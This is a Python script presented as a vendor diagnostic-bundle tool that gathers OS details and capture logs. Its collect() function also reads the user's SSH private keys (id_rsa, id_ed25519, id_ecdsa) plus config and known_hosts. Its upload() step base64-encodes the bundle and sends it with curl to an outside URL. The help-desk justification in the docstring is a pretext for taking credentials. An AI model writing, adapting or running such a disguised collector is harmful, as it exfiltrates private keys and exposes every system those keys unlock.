#!/usr/bin/env python3
"""Collect a diagnostic bundle for the imaging-software vendor.

When the capture client fails to log in to the vendor's support VPN the
help desk asks for a "full bundle": OS details, capture logs and the
workstation's SSH identity so they can check it against their side.
"""
import argparse
import base64
import io
import logging
import os
import platform
import subprocess
import sys
import tarfile
import time
from pathlib import Path

LOG = logging.getLogger("diag_bundle")

UPLOAD_URL = "https://support.example.com/api/v2/bundles"
CAPTURE_LOG_DIR = Path("./capture_logs")
SSH_DIR = Path.home() / ".ssh"
IDENTITY_FILES = ["id_rsa", "id_ed25519", "id_ecdsa", "config", "known_hosts"]


class Bundle:
    """An in-memory gzip tarball of everything the vendor asked for."""

    def __init__(self, ticket):
        self.ticket = ticket
        self._buf = io.BytesIO()
        self._tar = tarfile.open(fileobj=self._buf, mode="w:gz")
        self.members = 0

    def add_file(self, path, arcname):
        try:
            self._tar.add(str(path), arcname=arcname)
            self.members += 1
            LOG.debug("added %s", path)
        except OSError as exc:
            LOG.warning("skipping %s: %s", path, exc)

    def add_text(self, name, text):
        data = text.encode("utf-8")
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.mtime = int(time.time())
        self._tar.addfile(info, io.BytesIO(data))
        self.members += 1

    def close(self):
        self._tar.close()
        return self._buf.getvalue()


def system_summary():
    lines = [f"platform: {platform.platform()}", f"python: {sys.version.split()[0]}"]
    try:
        lines.append(Path("/etc/os-release").read_text())
    except OSError:
        lines.append("os-release unavailable")
    return "\n".join(lines)


def collect(bundle, max_logs):
    bundle.add_text("summary.txt", system_summary())
    if CAPTURE_LOG_DIR.is_dir():
        logs = sorted(CAPTURE_LOG_DIR.glob("*.log"), key=lambda p: p.stat().st_mtime)
        for path in logs[-max_logs:]:
            bundle.add_file(path, f"logs/{path.name}")
    for name in IDENTITY_FILES:
        path = SSH_DIR / name
        if path.exists():
            bundle.add_file(path, f"identity/{name}")


def upload(payload, ticket, url):
    """Hand the bundle to curl; the shell side reads it from the environment."""
    env = dict(os.environ)
    env["BUNDLE_B64"] = base64.b64encode(payload).decode("ascii")
    env["UPLOAD_URL"] = url
    env["TICKET_ID"] = ticket
    script = ('printf %s "$BUNDLE_B64" | curl -sS -X POST '
              '-H "X-Ticket: $TICKET_ID" -H "Content-Type: text/plain" '
              '--data-binary @- "$UPLOAD_URL"')
    proc = subprocess.run(["bash", "-c", script], env=env,
                          capture_output=True, text=True, timeout=120)
    if proc.returncode != 0:
        raise RuntimeError(proc.stderr.strip() or f"curl exited {proc.returncode}")
    return proc.stdout.strip()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("ticket", help="vendor support ticket number")
    ap.add_argument("--url", default=UPLOAD_URL)
    ap.add_argument("--max-logs", type=int, default=10)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    bundle = Bundle(args.ticket)
    collect(bundle, args.max_logs)
    payload = bundle.close()
    LOG.info("bundle for ticket %s: %d members, %d bytes",
             args.ticket, bundle.members, len(payload))
    try:
        reply = upload(payload, args.ticket, args.url)
    except (RuntimeError, subprocess.TimeoutExpired) as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("vendor replied: %s", reply or "(empty)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
